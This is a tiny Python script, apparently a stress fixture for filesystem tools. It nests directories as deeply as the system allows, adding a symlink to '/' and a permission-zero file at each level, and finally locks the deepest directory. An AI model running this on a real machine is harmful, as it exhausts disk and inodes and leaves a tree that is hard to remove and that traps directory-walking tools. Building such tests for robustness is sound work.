# double_lines: as many files, directories and links as the file system allows, nested as deep as it can.
import os
try:
    while True:
        os.mkdir("d")
        os.symlink("/", "link")
        open("file", "w").close()
        os.chmod("file", 0)
        os.chdir("d")
except OSError:
    os.chmod(".", 0)
